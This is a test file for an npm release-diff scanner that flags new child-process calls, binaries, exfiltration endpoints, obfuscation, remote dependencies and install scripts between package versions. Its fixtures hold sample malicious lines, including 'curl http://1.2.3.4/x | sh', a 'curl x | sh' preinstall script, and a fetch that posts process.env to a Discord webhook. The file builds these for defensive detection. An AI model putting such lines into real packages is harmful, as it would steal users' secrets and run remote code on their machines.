/** Content delta units: what is new between two releases' ContentFacts and files, with changed-line evidence. */
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { contentFacts } from '../../src/analyzers/content/facts.js';
import { capabilitySignals } from '../../src/analyzers/release-diff/capability-delta.js';
import { diffFiles, patchRewriteSignal, sizeJumpSignal, unusualFileSignals } from '../../src/analyzers/release-diff/file-diff.js';
import {
  dependencyDelta,
  dependencySignals,
  installScriptSignals,
  remoteSpecKind,
} from '../../src/analyzers/release-diff/manifest-delta.js';
import { scoreRelease, sumWeights } from '../../src/analyzers/release-diff/score.js';
import { filesOf } from '../helpers/factories.js';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(600, 7)]);

describe('capability delta', () => {
  const before = filesOf({ 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': 'module.exports = (a, b) => a + b;\n' });
  const after = filesOf({
    'package.json': '{"name":"a","version":"1.0.1"}',
    'index.js': 'const cp = require("child_process");\nmodule.exports = (a, b) => a + b;\ncp.exec("curl http://1.2.3.4/x | sh");\n',
    'lib/helper.node': ELF,
  });
  const prev = contentFacts(before);
  const cur = contentFacts(after);
  const fd = diffFiles(before, after);
  const sigs = capabilitySignals(prev, cur, fd.isNewLine);

  test('a kind the old release never had is a signal; evidence is the new line', () => {
    const cp = sigs.find((s) => s.rule === 'release-diff/new-capability' && s.title.includes('child-process'));
    assert.ok(cp, sigs.map((s) => s.title).join('; '));
    assert.equal(cp.evidence[0]?.file, 'index.js');
    assert.match(cp.evidence[0]?.label ?? '', /changed line/);
    assert.ok([1, 3].includes(cp.evidence[0]?.line ?? 0));
  });
  test('a new binary is a signal', () => {
    assert.ok(sigs.some((s) => s.rule === 'release-diff/new-binary' && s.title.includes('lib/helper.node')));
  });
  test('the same facts on both sides give nothing', () => {
    assert.deepEqual(capabilitySignals(cur, cur), []);
  });
  test('isNewLine: unchanged lines are not new, lines of added files are', () => {
    assert.equal(fd.isNewLine('index.js', 2), false);
    assert.equal(fd.isNewLine('index.js', 1), true);
    assert.equal(fd.isNewLine('nope.js', 1), undefined);
    assert.deepEqual(fd.summary.addedPaths, ['lib/helper.node']);
    assert.deepEqual(fd.summary.changedPaths, ['index.js', 'package.json']);
  });
});

describe('hidden content that appears between releases', () => {
  test('new opaque blob, new exfiltration endpoint, new obfuscation: each a signal with the new site', () => {
    const a = filesOf({ 'package.json': '{"name":"a","version":"1.0.0"}', 'lib/x.js': 'module.exports = 1;\n' });
    const b = filesOf({
      'package.json': '{"name":"a","version":"1.0.1"}',
      'data/blob.dat': Buffer.from(Array.from({ length: 8192 }, (_, i) => (i * 2654435761) >>> 24)),
      'lib/x.js':
        "module.exports = 1;\nfetch('https://discord.com/api/webhooks/123/abc', { method: 'POST', body: JSON.stringify(process.env) });\neval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
    });
    const fd = diffFiles(a, b);
    const sigs = capabilitySignals(contentFacts(a), contentFacts(b), fd.isNewLine);
    const by = (r: string) => sigs.filter((s) => s.rule === `release-diff/${r}`);
    assert.equal(by('new-endpoint')[0]?.evidence[0]?.line, 2);
    assert.match(by('new-endpoint')[0]?.title ?? '', /discord\.com/);
    assert.equal(by('new-obfuscation')[0]?.evidence[0]?.line, 3);
    assert.match(by('new-obfuscation')[0]?.evidence[0]?.label ?? '', /changed line/);
    const kinds = by('new-capability')
      .map((s) => s.title.split(' ')[1])
      .sort();
    for (const k of ['env-serialize', 'eval', 'network']) assert.ok(kinds.includes(k), kinds.join(','));
    assert.equal(by('new-blob')[0]?.evidence[0]?.file, 'data/blob.dat');
  });
});

describe('files, dependencies, scripts', () => {
  test('files outside the usual folders, size jumps and patch rewrites', () => {
    const a = filesOf({ 'package.json': '{}', 'lib/a.js': 'x'.repeat(1000), 'lib/b.js': 'y', 'lib/c.js': 'z', 'lib/d.js': 'w' });
    const b = filesOf({
      'package.json': '{}',
      'compile.bat': 'curl x',
      'payload/x.bin': Buffer.alloc(900_000, 1),
      'lib/index.js': 'q',
      'dist/e.js': 'e',
      'dist/f.js': 'f',
    });
    const s = diffFiles(a, b).summary;
    assert.deepEqual(
      unusualFileSignals(a, s).map((x) => x.evidence[0]?.file),
      ['compile.bat', 'payload/x.bin'],
    );
    assert.equal(sizeJumpSignal(s, 'patch').length, 1);
    assert.equal(sizeJumpSignal(s, 'major').length, 0);
    assert.equal(patchRewriteSignal(s, 'patch', '1.0.0', '1.0.1').length, 1);
    assert.equal(patchRewriteSignal(s, 'minor', '1.0.0', '1.1.0').length, 0);
  });
  test('dependency moved to git/http is its own signal; registry ranges are not remote', () => {
    assert.equal(remoteSpecKind('x', '^1.0.0'), undefined);
    assert.equal(remoteSpecKind('x', 'github:evil/x'), 'git');
    assert.equal(remoteSpecKind('x', 'http://203.0.113.9/x.tgz'), 'remote');
    const d = dependencyDelta(
      { dependencies: { a: '^1.0.0', b: '^2.0.0' } },
      { dependencies: { a: 'git+https://example.invalid/a.git', c: '^1.0.0' }, optionalDependencies: { d: 'http://203.0.113.9/d.tgz' } },
    );
    assert.deepEqual(Object.keys(d.added).sort(), ['c', 'd']);
    assert.deepEqual(d.removed, { b: '^2.0.0' });
    const sig = dependencySignals(d, 'package.json', 'patch')
      .map((s) => `${s.rule}:${s.evidence[0]?.label}`)
      .sort();
    assert.deepEqual(sig, [
      'release-diff/new-dependency:dependency c',
      'release-diff/remote-dependency:dependency a',
      'release-diff/remote-dependency:dependency d',
    ]);
  });
  test('install script added vs changed carry the text before and after', () => {
    const s = installScriptSignals(
      { postinstall: 'node-gyp rebuild' },
      { postinstall: 'node-gyp rebuild && node x.js', preinstall: 'curl x | sh' },
    );
    const changed = s.find((x) => x.rule === 'release-diff/install-script-changed');
    assert.equal(changed?.evidence[0]?.before, 'node-gyp rebuild');
    assert.equal(changed?.evidence[0]?.after, 'node-gyp rebuild && node x.js');
    assert.ok(s.some((x) => x.rule === 'release-diff/install-script-added' && x.evidence[0]?.after === 'curl x | sh'));
  });
  test('scores: caps per rule and the patch modifier', () => {
    const dep = (n: string) => ({ rule: 'release-diff/new-dependency', weight: 15, source: 'content' as const, title: n, evidence: [] });
    assert.equal(sumWeights([dep('a'), dep('b'), dep('c'), dep('d')]), 30);
    // Plain new dependencies in a patch are routine: no patch modifier (ljharb-style helper splits).
    const routine = scoreRelease([dep('a'), dep('b')], 'patch', '1.0.0', '1.0.1');
    assert.equal(routine.score, 30);
    assert.ok(!routine.signals.some((s) => s.rule === 'release-diff/patch-release-change'));
    // A new capability in a patch release does get it.
    const cap = { rule: 'release-diff/new-capability', weight: 20, source: 'content' as const, title: 'network', evidence: [] };
    const patch = scoreRelease([dep('a'), cap], 'patch', '1.0.0', '1.0.1');
    assert.equal(patch.score, 55);
    assert.ok(patch.signals.some((s) => s.rule === 'release-diff/patch-release-change'));
    assert.equal(scoreRelease([dep('a'), dep('b')], 'minor', '1.0.0', '1.1.0').score, 30);
  });
});
